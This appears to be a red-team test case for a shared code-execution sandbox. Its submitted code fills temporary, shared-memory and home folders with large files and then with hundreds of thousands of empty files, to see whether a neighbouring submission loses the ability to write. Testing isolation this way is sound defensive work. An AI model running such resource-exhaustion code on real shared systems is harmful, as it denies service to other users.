"""Fills every folder that it can write to with bytes, then with empty files.

Success: a neighbor can write no file and loses points, or the files are still there afterwards.
"""

ALONE = True


def attack(submission):
    submission.first(
        """
        import os, time

        folders = [".", "/tmp", "/dev/shm", "/var/tmp", "/run/lock", os.path.expanduser("~")]
        for folder in folders:
            for number in range(64):
                try:
                    with open(f"{folder}/red-team-was-here-{number}", "wb") as file:
                        for _ in range(60):
                            file.write(bytes(1 << 20))
                except OSError:
                    break
        for folder in folders:
            try:
                for number in range(200_000):
                    open(f"{folder}/red-team-was-here-empty-{number}", "x").close()
            except OSError:
                continue
        time.sleep(15)
    """
    )
